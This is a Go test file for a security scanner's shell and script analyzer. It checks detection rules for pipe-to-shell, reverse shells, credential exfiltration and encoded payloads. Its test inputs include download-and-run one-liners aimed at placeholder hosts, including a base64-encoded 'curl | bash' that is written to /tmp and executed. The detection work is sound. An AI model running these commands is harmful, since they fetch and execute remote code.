package shell

import (
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/vigilsec/vigil/analyze"
	"github.com/vigilsec/vigil/report"
)

func load(t testing.TB, name string) *analyze.File {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", name))
	if err != nil {
		t.Fatal(err)
	}
	return &analyze.File{Path: name, Data: b, Size: int64(len(b)), Kind: analyze.Sniff(name, b)}
}

// TestFixtures checks that each adversarial script reaches high with the
// expected rule on the expected line, and that the clean ones, whose
// comments and here-docs quote the same commands, stay quiet.
func TestFixtures(t *testing.T) {
	tests := []struct {
		file string
		rule string
		line int
	}{
		{"fail_curl_pipe.sh", RulePipeToShell, 4},
		{"fail_wget_pipe.sh", RulePipeToShell, 2},
		{"fail_wget_pipe.sh", RulePipeToShell, 4}, // sh -e still reads its program from stdin
		{"fail_stealth.sh", RuleRawIP, 2},
		{"fail_vars.ps1", RuleDecodeExec, 3},
		{"fail_vars.sh", RulePipeToShell, 3},
		{"fail_subst.sh", RulePipeToShell, 2},
		{"fail_dropper.sh", RuleDownloadExec, 5},
		{"fail_b64.sh", RuleDecodeExec, 2},
		{"fail_b64.sh", RulePipeToShell, 2}, // inside the decoded script
		{"fail_revshell.sh", RuleReverseShell, 2},
		{"fail_env.sh", RuleEnvExfil, 2},
		{"fail_creds.sh", RuleCredExfil, 2},
		{"fail_xz.m4", RuleDecodeExec, 5},
		{"fail_xz.m4", RuleTrSwap, 3},
		{"fail_iex.ps1", RuleIEXDownload, 2},
		{"fail_iwr.ps1", RulePipeToShell, 1},
		{"fail_enc.bat", RuleEncodedPS, 2},
		{"fail_enc.bat", RuleIEXDownload, 2}, // inside the encoded command
		{"fail_lolbins.bat", RuleCertutil, 4},
		{"fail_lolbins.bat", RuleRemoteScriptlet, 6},
		{"fail_lolbins.bat", RuleDownloadExec, 7},
		{"fail_lolbins_crlf.bat", RuleDownloadExec, 7},
		{"fail_eval_b64.sh", RuleDecodeExec, 2},
		{"fail_eval_b64.sh", RuleDecodeExec, 3},
		{"fail_eval_b64.sh", RuleDownloadExec, 4},
		{"fail_persist.sh", RuleCredRead, 2},
		{"fail_persist.sh", RuleAuthorizedKeys, 4},
		{"fail_webclient.ps1", RuleDownloadExec, 3},
	}
	for _, tt := range tests {
		f := load(t, tt.file)
		var found bool
		for _, fd := range (Analyzer{}).Analyze(f) {
			if fd.Rule == tt.rule && fd.Line == tt.line {
				found = true
				if fd.Level < report.High {
					t.Errorf("%s: %s at line %d is %s, want high", tt.file, tt.rule, tt.line, fd.Level)
				}
				if fd.Match == "" || fd.Offset <= 0 && fd.Line > 1 {
					t.Errorf("%s: %s has no evidence: %+v", tt.file, tt.rule, fd)
				}
			}
		}
		if !found {
			t.Errorf("%s: no %s at line %d; got %v", tt.file, tt.rule, tt.line, summary((Analyzer{}).Analyze(f)))
		}
	}
	for _, name := range []string{"clean_install.sh", "clean_build.ps1", "clean_build.bat"} {
		for _, fd := range (Analyzer{}).Analyze(load(t, name)) {
			if fd.Level > report.Low {
				t.Errorf("%s: %s %s at line %d: %q", name, fd.Level, fd.Rule, fd.Line, fd.Match)
			}
		}
	}
}

func summary(fs []report.Finding) []string {
	var s []string
	for _, f := range fs {
		s = append(s, f.Rule+"@"+strconv.Itoa(f.Line))
	}
	return s
}

// TestInspectFragment is how the JavaScript analyzer uses Inspect: on a
// command line taken from a string literal.
func TestInspectFragment(t *testing.T) {
	got := Inspect([]byte(`echo "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjQvYSB8IGJhc2g=" | base64 -d > /tmp/run.sh && bash /tmp/run.sh`))
	var rules []string
	for _, f := range got {
		rules = append(rules, f.Rule)
		if f.Line != 1 {
			t.Errorf("finding on line %d of a one-line fragment", f.Line)
		}
	}
	want := RulePipeToShell + " " + RuleDecodeExec + " " + RuleRawIP + " " + RuleNetwork
	if strings.Join(rules, " ") != want {
		t.Errorf("Inspect rules = %q, want %q", rules, want)
	}
	if got := Inspect([]byte("start /B node preinstall.js & node preinstall.js")); len(got) != 1 || got[0].Rule != RuleHidden || got[0].Level != report.Medium {
		t.Errorf("start /B: %+v", got)
	}
	got = Inspect([]byte(`node -e "require('child_process').exec('curl -s https://x.example/i | sh')"`))
	if len(got) == 0 || got[0].Rule != RulePipeToShell {
		t.Errorf("curl | sh inside node -e: %+v", got)
	}
	if got := Inspect([]byte("node-gyp rebuild")); len(got) != 0 {
		t.Errorf("node-gyp rebuild: %+v", got)
	}
}

func TestIsSwap(t *testing.T) {
	for args, want := range map[string]bool{
		`" \t_\-" "\t \-_"`: true,
		`'a-z' 'A-Z'`:       false,
		`-d '\0'`:           false,
		`ab ba`:             true,
		`abc abc`:           false,
	} {
		st := stage{text: "tr " + args}
		if got := isSwap(st.args()); got != want {
			t.Errorf("isSwap(%s) = %v, want %v", args, got, want)
		}
	}
}

func FuzzInspect(f *testing.F) {
	files, _ := filepath.Glob("testdata/*.*")
	for _, p := range files {
		if b, err := os.ReadFile(p); err == nil {
			f.Add(b, uint8(0))
		}
	}
	f.Add([]byte("cat <<EOF | sh\ncurl x\nEOF\n"), uint8(1))
	f.Add([]byte("a=${b|c} | ` ( [ &>& |& ||"), uint8(2))
	f.Fuzz(func(t *testing.T, b []byte, d uint8) {
		fs := inspect(b, dialect(d%5), 0)
		if len(fs) > maxFindings {
			t.Fatalf("%d findings", len(fs))
		}
		for _, x := range fs {
			if x.Line < 1 || x.Offset < 0 || x.Offset > int64(len(b)) {
				t.Fatalf("bad position %+v", x)
			}
		}
	})
}
